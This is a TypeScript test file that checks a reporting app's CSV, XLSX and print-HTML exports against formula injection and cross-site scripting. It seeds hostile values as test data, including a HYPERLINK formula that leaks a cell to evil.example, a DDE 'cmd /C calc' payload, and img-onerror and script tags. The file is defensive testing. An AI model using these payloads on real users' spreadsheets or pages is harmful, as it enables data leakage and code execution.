/**
 * Hostile text in every export. Names and imported post text that a spreadsheet would run as a
 * formula (=, +, -, @, a leading tab or carriage return) and markup that a browser would run are
 * put where the reports show them: the unit's and the account's names, posts imported from a
 * synthetic export file, an annual report's reasoning. Then every route that answers CSV or XLSX,
 * found in the route table so that a new export route is caught, is downloaded: no CSV cell starts
 * like a formula, no XLSX cell is a formula; and the print HTML shows the markup as text.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { eq } from 'drizzle-orm';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { buildApi } from './app.ts';
import { openApiInfo } from './api-docs.ts';
import { forEachDatabase } from '../testing/database.ts';
import { seed } from '../testing/seed.ts';
import { testApp, type SignedInClient } from '../testing/http.ts';
import { API_PREFIX } from '../testing/route-coverage.ts';
import { readCsv } from '../importers/parse/csv.ts';
import { accounts } from '../db/schema/index.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** Every GET route whose answer may be CSV or XLSX (from the OpenAPI document the routers publish). */
function exportRoutes(): string[] {
  const doc = buildApi().getOpenAPI31Document(openApiInfo);
  const out: string[] = [];
  for (const [path, item] of Object.entries(doc.paths ?? {})) {
    const get = (item as Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>).get;
    const types = Object.values(get?.responses ?? {}).flatMap((r) => Object.keys(r.content ?? {}));
    if (types.includes('text/csv') || types.includes(XLSX)) out.push(`GET ${API_PREFIX}${path.replace(/\{(\w+)\}/g, ':$1')}`);
  }
  return out.sort();
}

/** Text a spreadsheet would run, each with a marker word to find it again. */
const hostile = {
  unit: '@SUM(1+1) Fakultet HOSTILE-UNIT',
  account: '=HYPERLINK("https://evil.example/?leak="&A1,"Klikk") HOSTILE-ACCOUNT',
  reasoning: '+cmd|\' /C calc\'!A0 HOSTILE-REASONING',
  posts: [
    '=1+1 HOSTILE-POST-EQ',
    '-2+3 HOSTILE-POST-MINUS',
    '\t=1+1 HOSTILE-POST-TAB',
    '\r=1+1 HOSTILE-POST-CR',
    '<img src=x onerror="window.__xss=1"> HOSTILE-POST-IMG',
    '<script>window.__xss=2</script> HOSTILE-POST-SCRIPT',
  ],
};
const markers = ['HOSTILE-UNIT', 'HOSTILE-ACCOUNT', 'HOSTILE-REASONING', ...hostile.posts.map((p) => /HOSTILE-[A-Z-]+/.exec(p)![0])];

/** A synthetic Meta Business Suite posts export (written here, never copied from real exports). */
function postsExport(): string {
  const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
  const rows = hostile.posts.map((text, i) => {
    const day = String(3 + i * 4).padStart(2, "0");
    return [`9${i}`, `03/${day}/2025 12:00`, `https://www.instagram.com/p/hostile${i}/`, 'Photos', quote(text), 'Lifetime', String(100 + i * 10)].join(',');
  });
  return `Post ID,Publish time,Permalink,Post type,Description,Date,Reach\n${rows.join('\n')}\n`;
}

async function upload(app: ReturnType<typeof testApp>['app'], who: SignedInClient, account: string, name: string, text: string) {
  const form = new FormData();
  form.append('file', new File([text], name, { type: 'text/csv' }));
  const res = await app.request(`${API_PREFIX}/accounts/${account}/imports`, { method: 'POST', headers: { cookie: who.cookie, 'x-csrf-token': who.csrfToken }, body: form });
  assert.equal(res.status, 200, await res.clone().text());
  const { files } = (await res.json()) as { files: { status: string; error: string | null }[] };
  assert.deepEqual(files.map((f) => [f.status, f.error]), [['imported', null]]);
}

/** Every CSV cell that holds hostile text must not start like a formula. */
function checkCsv(where: string, bytes: Uint8Array, seen: Set<string>) {
  const text = new TextDecoder().decode(bytes);
  const { rows } = readCsv(text, { file: where });
  for (const row of rows) {
    for (const cell of row.cells) {
      if (!/HOSTILE-/.test(cell)) continue;
      for (const m of cell.match(/HOSTILE-[A-Z-]+/g) ?? []) seen.add(m);
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${where}, line ${row.line}: ${JSON.stringify(cell)}`);
    }
  }
}

/** No XLSX cell is a formula; hostile text is there as text. */
function checkXlsx(where: string, bytes: Uint8Array, seen: Set<string>) {
  const files = unzipSync(bytes);
  const sheets = Object.keys(files).filter((n) => /^xl\/(worksheets\/sheet\d+|sharedStrings)\.xml$/.test(n));
  assert.ok(sheets.length > 0, `${where}: has sheets`);
  for (const name of sheets) {
    const xml = strFromU8(files[name]!);
    assert.doesNotMatch(xml, /<f[\s>]/, `${where} ${name}: no formula elements`);
    for (const m of xml.match(/HOSTILE-[A-Z-]+/g) ?? []) seen.add(m);
  }
}

test('the checks catch what they look for: a formula cell in CSV or XLSX fails them', () => {
  const csv = new TextEncoder().encode('name;value\n"=1+1 HOSTILE-X";1\n');
  assert.throws(() => checkCsv('bad.csv', csv, new Set()), /bad\.csv, line 2/);
  const neutral = new TextEncoder().encode("name;value\n'=1+1 HOSTILE-X;1\n");
  checkCsv('good.csv', neutral, new Set());
  const formulaSheet = zipSync({ 'xl/worksheets/sheet1.xml': strToU8('<sheetData><row><c r="A1"><f>HYPERLINK("x")</f></c></row></sheetData>') });
  assert.throws(() => checkXlsx('bad.xlsx', formulaSheet, new Set()), /no formula elements/);
});

forEachDatabase('hostile text in exports', (fresh) => {
  test('every CSV and XLSX export neutralises formula-like names and post text; the print HTML shows markup as text', async () => {
    await using t = await fresh();
    const s = await seed(t.db);
    const { app, signIn } = testApp(t);
    const admin = await signIn(s.people.admin.email);
    const account = s.accounts.a1Instagram;

    assert.equal((await admin.request('PATCH', `/units/${s.units.departmentA1}`, { name: hostile.unit })).status, 200);
    assert.equal((await admin.request('PATCH', `/accounts/${account}`, { name: hostile.account })).status, 200);
    // In use since January 2025, so that 2025 has an annual report.
    await t.db.update(accounts).set({ createdAt: new Date('2025-01-02T08:00:00Z') }).where(eq(accounts.id, account));
    await upload(app, admin, account, 'posts.csv', postsExport());
    const saved = await admin.request('PATCH', `/annual-reports/${account}/2025`, { decision: 'continue', reasoning: hostile.reasoning });
    assert.equal(saved.status, 200, await saved.text());

    // Each export route, with the downloads that reach the hostile text. A new export route fails
    // here until it is added, so that its output is checked too.
    const downloads: Record<string, string[]> = {
      'GET /api/v1/reports/annual': ['csv', 'xlsx'].flatMap((f) => [`/reports/annual?year=2025&account=${account}&format=${f}`, `/reports/annual?year=2025&format=${f}&lang=en`]),
      'GET /api/v1/reports/monthly': ['csv', 'xlsx'].flatMap((f) => [`/reports/monthly?month=2025-03&account=${account}&format=${f}`, `/reports/monthly?month=2025-03&unit=${s.units.facultyA}&format=${f}`]),
      // The template holds no one's text, but is checked like the others.
      'GET /api/v1/import-template.csv': ['/import-template.csv?platform=instagram'],
      'GET /api/v1/audit-events/export': ['/audit-events/export?format=csv', '/audit-events/export?format=xlsx'],
    };
    const routes = exportRoutes();
    assert.deepEqual(routes.filter((r) => !(r in downloads)), [], 'every export route has downloads listed here');
    const seen = new Set<string>();
    for (const route of routes) {
      for (const url of downloads[route]!) {
        const res = await admin.request('GET', url);
        assert.equal(res.status, 200, `${url}: ${await res.clone().text()}`);
        const type = res.headers.get('content-type') ?? '';
        const bytes = new Uint8Array(await res.arrayBuffer());
        if (type.startsWith('text/csv')) checkCsv(url, bytes, seen);
        else if (type.startsWith(XLSX)) checkXlsx(url, bytes, seen);
        else assert.fail(`${url}: unexpected content type ${type}`);
      }
    }
    // The hostile text really reached the exports (otherwise the checks above prove nothing).
    assert.deepEqual(markers.filter((m) => !seen.has(m)), [], 'every hostile text appears in some export');

    // The print HTML escapes the markup: shown as text, never as elements.
    const htmlRes = await admin.request('GET', `/reports/annual?year=2025&account=${account}&format=html`);
    assert.match(htmlRes.headers.get('content-type') ?? '', /^text\/html/);
    // Should escaping ever fail, the policy still forbids inline scripts and handlers on the page.
    assert.match(htmlRes.headers.get('content-security-policy') ?? '', /script-src 'self'(;|$)/);
    const html = await htmlRes.text();
    for (const marker of ['HOSTILE-POST-IMG', 'HOSTILE-POST-SCRIPT', 'HOSTILE-ACCOUNT']) assert.ok(html.includes(marker), `${marker} is in the HTML`);
    assert.doesNotMatch(html, /<img src=x/i);
    assert.doesNotMatch(html, /<script>window/i);
    assert.ok(html.includes('&lt;img src=x onerror=') || html.includes('&lt;img src=x onerror&#61;'), 'the markup is shown as text');
    assert.ok(html.includes('&lt;script&gt;window.__xss=2&lt;/script&gt;'), 'the script tag is shown as text');
  });
});
